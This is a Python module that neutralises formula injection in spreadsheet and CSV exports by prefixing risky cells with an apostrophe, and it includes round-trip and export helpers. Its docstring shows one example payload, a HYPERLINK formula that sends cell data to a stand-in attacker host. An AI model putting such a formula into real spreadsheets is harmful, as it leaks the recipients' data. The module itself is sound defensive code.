"""Spreadsheet and CSV output that a spreadsheet program cannot execute.

A cell whose text starts with `=`, `+`, `-`, `@`, a tab or a carriage return is read as a formula
by Excel, WPS and LibreOffice (`=HYPERLINK("http://evil.example/?x="&B2, "…")` leaks the sheet when
clicked). Every export writes its rows through `safe_row`, which puts a leading apostrophe before
such text (the contract in DESIGN.md); numbers, dates and booleans are left as they are. Imports
read an exported file back with `unescape_cell`, so a round trip keeps the original text.
"""

import csv
import io

FORMULA_PREFIXES = ("=", "+", "-", "@", "\t", "\r")


def safe_cell(value):
    if isinstance(value, str) and value.startswith(FORMULA_PREFIXES):
        return "'" + value
    return value


def safe_row(values):
    return [safe_cell(v) for v in values]


def unescape_cell(value):
    """The text an export neutralised, as it was typed (for imports of our own files)."""
    if isinstance(value, str) and value.startswith("'") and value[1:].startswith(FORMULA_PREFIXES):
        return value[1:]
    return value


def sheet_append(ws, values):
    """`ws.append` for an openpyxl worksheet, with every cell neutralised."""
    ws.append(safe_row(values))


def csv_text(header, rows) -> str:
    """CSV with a BOM (Excel then opens UTF-8, so Chinese names, correctly), every cell neutralised."""
    out = io.StringIO()
    writer = csv.writer(out)
    writer.writerow(safe_row(header))
    for row in rows:
        writer.writerow(safe_row(row))
    return "\ufeff" + out.getvalue()


def workbook_bytes(wb) -> bytes:
    out = io.BytesIO()
    wb.save(out)
    return out.getvalue()
